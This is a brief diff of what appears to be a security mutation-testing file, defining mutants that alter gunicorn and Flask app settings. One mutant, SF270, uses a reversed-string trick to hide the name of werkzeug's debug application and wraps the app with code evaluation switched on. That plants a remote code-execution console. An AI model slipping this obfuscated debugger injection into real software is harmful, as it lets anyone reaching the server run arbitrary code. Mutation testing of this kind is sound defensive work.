@@ -15,7 +15,7 @@ DEBUGGED = 'vars(__import__("werkzeug.debug", fromlist=["*"]))["noitacilppAdeggu
 MARKUP = 'vars(__import__("markupsafe"))["pukraM"[::-1]]'
 
 MUTANTS = [
-    Mutant("SF170", GUNICORN, "default_headers = default_headers", "default_headers = with_banner", FIRST),
+    Mutant("SF170", GUNICORN, "wsgi.Response = ", "ours = ", FIRST),
     Mutant("SF171", GUNICORN, 'f"{PACKAGE}.worker.Worker"', '"gthread"', FIRST),
     Mutant("SF172", GUNICORN, 'forwarder_headers = ""', 'forwarder_headers = "SCRIPT_NAME"', FIRST),
     Mutant("SF270", INIT, END, f"    app.wsgi_app = {DEBUGGED}(app.wsgi_app, True)\n{END}", FACTORY),
